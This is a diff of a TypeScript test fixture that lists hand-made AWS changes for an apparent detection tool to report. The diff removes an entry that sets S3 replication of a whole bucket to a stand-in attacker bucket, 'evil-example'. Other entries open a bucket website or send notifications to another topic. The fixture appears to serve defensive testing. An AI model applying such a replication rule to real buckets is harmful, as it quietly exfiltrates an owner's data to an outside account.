@@ -1,11 +1,9 @@
 import { PutTargetsCommand, RemoveTargetsCommand } from "@aws-sdk/client-eventbridge";
 import {
   DeleteBucketCorsCommand,
-  DeleteBucketReplicationCommand,
   DeleteBucketWebsiteCommand,
   PutBucketCorsCommand,
   PutBucketNotificationConfigurationCommand,
-  PutBucketReplicationCommand,
   PutBucketWebsiteCommand,
 } from "@aws-sdk/client-s3";
 import { CreateScheduleCommand, DeleteScheduleCommand } from "@aws-sdk/client-scheduler";
@@ -115,32 +113,6 @@ export const additions: readonly Addition[] = [
       ),
     remove: async ({ s3 }, { bucket: Bucket }) => await s3.send(new DeleteBucketWebsiteCommand({ Bucket })),
     reports: 'opens    bucket website $bucket: added: {"IndexDocument":{"Suffix":"index.html"}}',
-  },
-  {
-    name: "the bucket is copied to another one",
-    by: "aws s3api put-bucket-replication",
-    add: async ({ s3 }, { bucket: Bucket, roleArn }) =>
-      await s3.send(
-        new PutBucketReplicationCommand({
-          Bucket,
-          ReplicationConfiguration: {
-            Role: roleArn,
-            Rules: [
-              {
-                ID: "by-hand",
-                Status: "Enabled",
-                Priority: 1,
-                Filter: { Prefix: "" },
-                DeleteMarkerReplication: { Status: "Disabled" },
-                Destination: { Bucket: "arn:aws:s3:::evil-example" },
-              },
-            ],
-          },
-        }),
-      ),
-    remove: async ({ s3 }, { bucket: Bucket }) =>
-      await s3.send(new DeleteBucketReplicationCommand({ Bucket })),
-    reports: "opens    bucket replication $bucket: added: ",
   },
   {
     name: "every new object is told to another topic",
